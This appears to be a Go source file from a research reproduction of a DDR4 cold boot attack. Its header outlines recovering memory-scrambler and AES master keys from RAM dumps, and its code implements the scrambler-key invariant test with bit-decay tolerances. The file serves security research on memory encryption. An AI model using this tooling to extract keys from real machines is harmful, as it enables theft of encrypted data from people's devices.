// Package core implements the paper's primary contribution: the DDR4 cold
// boot attack. Its stages mirror Section III:
//
//  1. Mine scrambler keys from a scrambled dump with the scrambler-key
//     litmus test — byte-pair invariants that every Skylake keystream block
//     satisfies, so zero-filled memory blocks (which expose raw keys) can be
//     distinguished from data (Key Idea 1).
//  2. Scan the dump for 64-byte blocks that, descrambled with a mined key,
//     contain consecutive AES key-schedule round keys — verified by running
//     partial key expansions at every alignment and round phase, without
//     descrambling any neighbouring block (the AES key litmus test).
//  3. Extend around each hit, reconstruct the full schedule, and recover
//     the master key — using backward key expansion, so the table head may
//     even be missing.
//  4. Tolerate bit decay everywhere via hamming-distance comparisons,
//     majority voting over repeated keystream sightings, and optional
//     single-bit window repair.
//
// A DDR3 baseline attack (frequency analysis + the reboot universal key,
// after Bauer et al.) is included for comparison.
package core

import (
	"coldboot/internal/bitutil"
)

// BlockBytes is the scrambler/attack granularity.
const BlockBytes = 64

// KeyLitmusEquations is the number of invariant equations checked per
// 64-byte block: the four published byte-pair relations in each of the four
// 16-byte groups.
const KeyLitmusEquations = 16

// KeyLitmusDistance returns the total hamming distance across all the
// scrambler-key invariant equations for a 64-byte block. A true scrambler
// key (or the XOR of two scrambler keys for the same index — the
// double-scrambled case) scores 0; a decayed key scores a small number; a
// random or structured-data block almost surely scores high.
//
// The equations, from Section III-B, for each 16-byte-aligned group at i:
//
//	K[i+2:i+3]^K[i+4:i+5] == K[i+10:i+11]^K[i+12:i+13]
//	K[i:i+1]^K[i+6:i+7]   == K[i+8:i+9]^K[i+14:i+15]
//	K[i:i+1]^K[i+4:i+5]   == K[i+8:i+9]^K[i+12:i+13]
//	K[i:i+1]^K[i+2:i+3]   == K[i+8:i+9]^K[i+10:i+11]
func KeyLitmusDistance(block []byte) int {
	if len(block) != BlockBytes {
		panic("core: litmus block must be 64 bytes")
	}
	total := 0
	for i := 0; i < BlockBytes; i += 16 {
		w0 := bitutil.Word16(block, i)
		w1 := bitutil.Word16(block, i+2)
		w2 := bitutil.Word16(block, i+4)
		w3 := bitutil.Word16(block, i+6)
		w4 := bitutil.Word16(block, i+8)
		w5 := bitutil.Word16(block, i+10)
		w6 := bitutil.Word16(block, i+12)
		w7 := bitutil.Word16(block, i+14)
		total += bitutil.HammingDistance16(w1^w2, w5^w6)
		total += bitutil.HammingDistance16(w0^w3, w4^w7)
		total += bitutil.HammingDistance16(w0^w2, w4^w6)
		total += bitutil.HammingDistance16(w0^w1, w4^w5)
	}
	return total
}

// PassesKeyLitmus reports whether block is within tolerance bit flips of
// satisfying all the scrambler-key invariants.
func PassesKeyLitmus(block []byte, tolerance int) bool {
	return KeyLitmusDistance(block) <= tolerance
}

// DefaultLitmusTolerance is the default bit-flip budget for the key litmus
// test. A decayed key copy with f flipped bits scores at most 3f (each
// 16-bit word participates in up to three of the four group equations), so
// 16 tolerates ~5-8 flips per key sighting — about 1.5% block decay — while
// random blocks (expected distance ~128, standard deviation ~8) essentially
// never pass.
const DefaultLitmusTolerance = 16
